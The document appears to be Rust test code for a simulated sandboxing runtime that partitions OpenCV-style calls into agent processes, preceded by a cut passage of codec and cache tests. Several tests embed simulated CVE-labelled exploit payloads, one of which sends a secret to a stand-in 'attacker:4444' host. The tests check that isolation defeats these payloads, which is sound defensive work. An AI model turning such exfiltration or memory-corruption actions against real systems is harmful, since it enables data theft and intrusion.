            }
            .encode()],
        };
        // Direction confusion is rejected, as is batch-vs-single confusion.
        assert!(BatchResponse::decode(&breq.encode()).is_none());
        assert!(BatchRequest::decode(&bresp.encode()).is_none());
        assert!(Request::decode(&breq.encode()).is_none());
        // Truncated and padded frames are rejected.
        let wire = breq.encode();
        assert!(BatchRequest::decode(&wire[..wire.len() - 1]).is_none());
        let mut padded = wire.clone();
        padded.push(0);
        assert!(BatchRequest::decode(&padded).is_none());
    }

    #[test]
    fn completion_cache_replays_and_evicts() {
        let mut cache = CompletionCache::new(2);
        cache.complete(1, Value::I64(10));
        cache.complete(2, Value::I64(20));
        assert_eq!(cache.replay(1), Some(&Value::I64(10)));
        cache.complete(3, Value::I64(30));
        assert_eq!(cache.len(), 2);
        assert!(cache.replay(1).is_none(), "oldest evicted");
        assert_eq!(cache.replay(3), Some(&Value::I64(30)));
    }

    #[test]
    fn ack_prunes_at_and_below_watermark_only() {
        let mut cache = CompletionCache::new(64);
        for seq in 1..=5 {
            cache.complete(seq, Value::I64(seq as i64));
        }
        cache.ack(3);
        assert_eq!(cache.acked_watermark(), 3);
        assert_eq!(cache.len(), 2);
        assert!(cache.replay(3).is_none(), "acked entries pruned");
        // Un-acked seqs above the watermark still replay — the
        // at-least-once crash path depends on this.
        assert_eq!(cache.replay(4), Some(&Value::I64(4)));
        assert_eq!(cache.replay(5), Some(&Value::I64(5)));
        // Stale / duplicate acks never move the watermark backwards.
        cache.ack(2);
        assert_eq!(cache.acked_watermark(), 3);
        assert_eq!(cache.len(), 2);
    }
}
