//! End-to-end tests of the FreePart runtime: partition routing, lazy
//! data copy, temporal permissions, syscall sealing, crash containment,
//! and restart semantics.

use freepart::{CallError, FrameworkState, PartitionPlan, Policy, Runtime};
use freepart_frameworks::api::ApiType;
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};
use freepart_simos::device::Camera;

fn rt_with(policy: Policy) -> Runtime {
    Runtime::install(standard_registry(), policy)
}

fn seed_image(rt: &mut Runtime, path: &str, side: u32) {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                img.put(x, y, c, ((x * 7 + y * 11 + c) % 256) as u8);
            }
        }
    }
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

fn seed_evil_image(rt: &mut Runtime, path: &str, payload: &ExploitPayload) {
    let img = Image::new(16, 16, 3);
    rt.kernel
        .fs
        .put(path, fileio::encode_image(&img, Some(payload)));
}

#[test]
fn five_processes_and_type_routing() {
    let mut rt = rt_with(Policy::freepart());
    // Host + 4 agents.
    assert_eq!(rt.kernel.process_count(), 5);
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // The loaded Mat lives in the *loading agent*, not the host.
    let home = rt.objects.meta(img.as_obj().unwrap()).unwrap().home;
    let loading = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.imread").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(home, loading);
    assert_ne!(home, rt.host_pid());
    // A processing call moves it into the processing agent.
    let blur = rt
        .call("cv2.GaussianBlur", std::slice::from_ref(&img))
        .unwrap();
    let processing = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(blur.as_obj().unwrap()).unwrap().home,
        processing
    );
    assert_ne!(loading, processing);
}

#[test]
fn full_pipeline_is_functionally_correct() {
    // The hooked pipeline must produce byte-identical output to a
    // monolithic run — FreePart's correctness claim (§5, "Correctness").
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let eq = rt.call("cv2.equalizeHist", &[gray]).unwrap();
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), eq])
        .unwrap();
    let hooked = rt.kernel.fs.get("/out.simg").unwrap().clone();

    // Monolithic reference using the raw exec layer.
    use freepart_frameworks::{exec, ApiCtx, ObjectStore};
    let reg = standard_registry();
    let mut kernel = freepart_simos::Kernel::new();
    let pid = kernel.spawn("mono");
    seed_direct(&mut kernel, "/in.simg", 16);
    let mut objects = ObjectStore::new();
    let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
    let img = exec::execute(
        &reg,
        reg.id_of("cv2.imread").unwrap(),
        &[Value::from("/in.simg")],
        &mut ctx,
    )
    .unwrap();
    let gray = exec::execute(&reg, reg.id_of("cv2.cvtColor").unwrap(), &[img], &mut ctx).unwrap();
    let eq = exec::execute(
        &reg,
        reg.id_of("cv2.equalizeHist").unwrap(),
        &[gray],
        &mut ctx,
    )
    .unwrap();
    exec::execute(
        &reg,
        reg.id_of("cv2.imwrite").unwrap(),
        &[Value::from("/out.simg"), eq],
        &mut ctx,
    )
    .unwrap();
    let mono = kernel.fs.get("/out.simg").unwrap().clone();
    assert_eq!(hooked, mono, "isolation must not change results");
}

fn seed_direct(kernel: &mut freepart_simos::Kernel, path: &str, side: u32) {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                img.put(x, y, c, ((x * 7 + y * 11 + c) % 256) as u8);
            }
        }
    }
    kernel.fs.put(path, fileio::encode_image(&img, None));
}

#[test]
fn ldc_moves_data_agent_to_agent_directly() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let s0 = rt.stats();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let s1 = rt.stats();
    assert_eq!(s1.ldc_copies - s0.ldc_copies, 1, "one direct move");
    assert_eq!(s1.host_copies, s0.host_copies, "host never touched");
}

#[test]
fn non_ldc_copies_through_host_and_back() {
    let mut rt = rt_with(Policy::without_ldc());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // Without LDC the imread result was already copied back to the host.
    assert_eq!(
        rt.objects.meta(img.as_obj().unwrap()).unwrap().home,
        rt.host_pid()
    );
    let before = rt.stats().host_copies;
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let after = rt.stats().host_copies;
    // host→agent for the argument, agent→host for arg + result.
    assert!(after - before >= 2, "eager copies: {}", after - before);
    assert_eq!(rt.stats().ldc_copies, 0);
}

#[test]
fn ldc_transfers_far_fewer_bytes() {
    let run = |policy: Policy| {
        let mut rt = rt_with(policy);
        seed_image(&mut rt, "/in.simg", 32);
        let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let a = rt.call("cv2.GaussianBlur", &[img]).unwrap();
        let b = rt.call("cv2.erode", &[a]).unwrap();
        let c = rt.call("cv2.Canny", &[b]).unwrap();
        rt.call("cv2.imwrite", &[Value::from("/o.simg"), c])
            .unwrap();
        rt.kernel.metrics().copied_bytes
    };
    let with_ldc = run(Policy::freepart());
    let without = run(Policy::without_ldc());
    assert!(
        without as f64 >= 1.8 * with_ldc as f64,
        "LDC {with_ldc}B vs eager {without}B"
    );
}

#[test]
fn state_machine_follows_pipeline_and_protects() {
    let mut rt = rt_with(Policy::freepart());
    assert_eq!(rt.current_state(), FrameworkState::Initialization);
    let template = rt.host_data("template", &[7u8; 256]);
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataLoading)
    );
    // Initialization-defined template is now read-only.
    assert!(rt.is_protected(template));
    let gray = rt.call("cv2.cvtColor", std::slice::from_ref(&img)).unwrap();
    // cvtColor is type-neutral: state unchanged.
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataLoading)
    );
    let blur = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    assert_eq!(
        rt.current_state(),
        FrameworkState::InType(ApiType::DataProcessing)
    );
    // The loading-stage image is locked once processing starts.
    assert!(rt.is_protected(img.as_obj().unwrap()));
    assert!(!rt.is_protected(blur.as_obj().unwrap()));
    rt.call("cv2.imshow", &[Value::from("w"), blur.clone()])
        .unwrap();
    assert!(rt.is_protected(blur.as_obj().unwrap()));
}

#[test]
fn protected_template_survives_memory_corruption_exploit() {
    // The motivating example: CVE-2017-12597 in imread tries to corrupt
    // `template`. Two defenses stack: the write lands in the loading
    // agent's address space (template lives in the host), where the
    // address is unmapped.
    let mut rt = rt_with(Policy::freepart());
    let template = rt.host_data("template", b"answer-key-coordinates!!");
    let t_addr = rt.objects.meta(template).unwrap().buffer.unwrap().0;
    seed_image(&mut rt, "/warmup.simg", 16);
    rt.call("cv2.imread", &[Value::from("/warmup.simg")])
        .unwrap();

    let payload = ExploitPayload {
        cve: "CVE-2017-12597".into(),
        actions: vec![ExploitAction::WriteMem {
            addr: t_addr.0,
            bytes: vec![0x41; 8],
        }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);

    // template is intact in the host.
    assert_eq!(
        rt.fetch_bytes(template).unwrap(),
        b"answer-key-coordinates!!"
    );
    // And the attack was observed to fault, not succeed.
    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
}

#[test]
fn dos_exploit_crashes_only_the_loading_agent() {
    let mut rt = rt_with(Policy::no_restart());
    seed_image(&mut rt, "/ok.simg", 16);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let err = rt
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(matches!(
        err,
        CallError::AgentCrashed(_) | CallError::AgentUnavailable(_)
    ));
    // Host alive; processing/visualizing/storing agents alive.
    assert!(rt.kernel.is_running(rt.host_pid()));
    let imread = rt.registry().id_of("cv2.imread").unwrap();
    let loading = rt.partition_of(imread);
    for p in rt.partitions() {
        let alive = rt.kernel.is_running(rt.agent(p).unwrap().pid);
        if p == loading {
            assert!(!alive, "loading agent should be down");
        } else {
            assert!(alive, "agent {p} should be unaffected");
        }
    }
    // Without restart, further loading calls fail...
    let err = rt
        .call("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap_err();
    assert_eq!(err, CallError::AgentUnavailable(loading));
    // ...but other partitions keep working (drone stays in the air).
    rt.call("cv2.pollKey", &[]).unwrap();
}

#[test]
fn restart_policy_recovers_the_agent() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/ok.simg", 16);
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    // The malicious input crashes the agent; the runtime restarts it and
    // re-executes (at-least-once) — the exploit fires again and the call
    // ultimately fails, but the *system* stays up.
    let err = rt
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::AgentCrashed(_)));
    assert!(rt.stats().restarts >= 1);
    // A clean follow-up call succeeds on the restarted agent.
    let again = rt.call("cv2.imread", &[Value::from("/ok.simg")]);
    assert!(again.is_ok(), "{again:?}");
    assert!(rt.stats().restarts >= 2, "evil call consumed one restart");
}

#[test]
fn sealed_filter_blocks_exfiltration_from_processing_agent() {
    let mut rt = rt_with(Policy::freepart());
    let secret = rt.host_data("user-profile", b"SSN=123-45-6789");
    let s_addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
    seed_image(&mut rt, "/in.simg", 32);
    // Warm up + seal the processing agent.
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", std::slice::from_ref(&img))
        .unwrap();
    let processing = rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap());
    assert!(rt.agent(processing).unwrap().sealed);

    // Tainted input fires CVE-2019-14491 inside detectMultiScale: the
    // payload tries to read the secret and send it out.
    let payload = ExploitPayload {
        cve: "CVE-2019-14491".into(),
        actions: vec![ExploitAction::ExfilMem {
            addr: s_addr.0,
            len: 15,
            dest: "attacker:4444".into(),
        }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let tainted = rt.call("cv2.imread", &[Value::from("/evil.simg")]).unwrap();
    rt.kernel.fs.put("/c.xml", vec![1; 16]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let _ = rt.call("cv2.CascadeClassifier.detectMultiScale", &[clf, tainted]);
    // Nothing reached the network. (The read itself also faulted: the
    // secret's address is not mapped in the processing agent.)
    assert!(!rt.kernel.network.leaked(b"SSN=123-45-6789"));
    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
}

#[test]
fn sealed_filter_blocks_code_rewrite() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let imread = rt.registry().id_of("cv2.imread").unwrap();
    let loading = rt.partition_of(imread);
    let code = rt.agent(loading).unwrap().code_page;
    assert!(rt.agent(loading).unwrap().sealed);

    let payload = ExploitPayload {
        cve: "CVE-2017-17760".into(),
        actions: vec![ExploitAction::RewriteCode { addr: code.0 }],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    use freepart_frameworks::ActionOutcome;
    assert!(matches!(
        rt.exploit_log.last().unwrap().outcome,
        ActionOutcome::SyscallKilled
    ));
}

#[test]
fn unsealed_first_execution_allows_init_syscalls() {
    // The very first visualizing call needs connect(); it must succeed
    // because sealing happens after the first execution.
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.imshow", &[Value::from("w"), img.clone()])
        .unwrap();
    assert!(rt.kernel.display.is_connected());
    let viz = rt.partition_of(rt.registry().id_of("cv2.imshow").unwrap());
    assert!(rt.agent(viz).unwrap().sealed);
    // Subsequent draws keep working under the sealed filter.
    rt.call("cv2.imshow", &[Value::from("w"), img]).unwrap();
}

#[test]
fn type_neutral_api_runs_in_context_agent() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // cvtColor right after loading: runs in the loading agent.
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let loading_pid = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.imread").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(gray.as_obj().unwrap()).unwrap().home,
        loading_pid
    );
    // The same API mid-processing runs in the processing agent.
    let blur = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    let gray2 = rt.call("cv2.cvtColor", &[blur]).unwrap();
    let processing_pid = rt
        .agent(rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap()))
        .unwrap()
        .pid;
    assert_eq!(
        rt.objects.meta(gray2.as_obj().unwrap()).unwrap().home,
        processing_pid
    );
}

#[test]
fn capture_state_survives_restart_via_snapshot() {
    let mut rt = rt_with(Policy {
        snapshot_interval: 1,
        ..Policy::freepart()
    });
    rt.kernel.camera = Some(Camera::new(3, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    // Kill the loading agent out from under the runtime.
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel
        .deliver_fault(pid, freepart_simos::FaultKind::Abort, None);
    // Next read triggers restart; the capture handle still works.
    let frame = rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap));
    assert!(frame.is_ok(), "{frame:?}");
    assert!(rt.stats().restarts >= 1);
    use freepart_frameworks::ObjectKind;
    match rt.objects.meta(cap.as_obj().unwrap()).unwrap().kind {
        ObjectKind::Capture { frames_read } => assert!(frames_read >= 3),
        ref k => panic!("unexpected kind {k:?}"),
    }
}

#[test]
fn per_api_plan_isolates_each_api() {
    let reg = standard_registry();
    let apis = vec![
        reg.id_of("cv2.imread").unwrap(),
        reg.id_of("cv2.GaussianBlur").unwrap(),
        reg.id_of("cv2.erode").unwrap(),
    ];
    let plan = PartitionPlan::per_api(apis.clone(), &reg);
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            plan,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let a = rt.call("cv2.GaussianBlur", &[img]).unwrap();
    rt.call("cv2.erode", &[a]).unwrap();
    // Three distinct agent pids served the three APIs.
    let pids: std::collections::BTreeSet<_> = apis
        .iter()
        .map(|&id| rt.agent(rt.partition_of(id)).unwrap().pid)
        .collect();
    assert_eq!(pids.len(), 3);
}

#[test]
fn stats_and_metrics_accumulate() {
    let mut rt = rt_with(Policy::freepart());
    seed_image(&mut rt, "/in.simg", 16);
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let s = rt.stats();
    assert_eq!(s.rpc_calls, 2);
    assert!(s.transitions >= 2);
    let m = rt.kernel.metrics();
    assert!(m.ipc_messages >= 4, "2 requests + 2 responses");
    assert!(rt.kernel.clock().now_ns() > 0);
    assert_eq!(rt.call_log().len(), 2);
}

#[test]
fn unknown_api_is_reported() {
    let mut rt = rt_with(Policy::freepart());
    assert!(matches!(
        rt.call("cv2.notAnApi", &[]),
        Err(CallError::UnknownApi(_))
    ));
}

#[test]
fn framework_errors_pass_through_without_crash() {
    let mut rt = rt_with(Policy::freepart());
    let err = rt
        .call("cv2.imread", &[Value::from("/missing.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::Framework(_)));
    // Agent is still alive.
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    assert!(rt.kernel.is_running(rt.agent(loading).unwrap().pid));
}

#[test]
fn restart_disabled_keeps_agent_down_but_host_operational() {
    let mut rt = rt_with(Policy::no_restart());
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    seed_evil_image(&mut rt, "/evil.simg", &payload);
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    assert_eq!(rt.stats().restarts, 0);
    assert!(rt.kernel.is_running(rt.host_pid()));
}
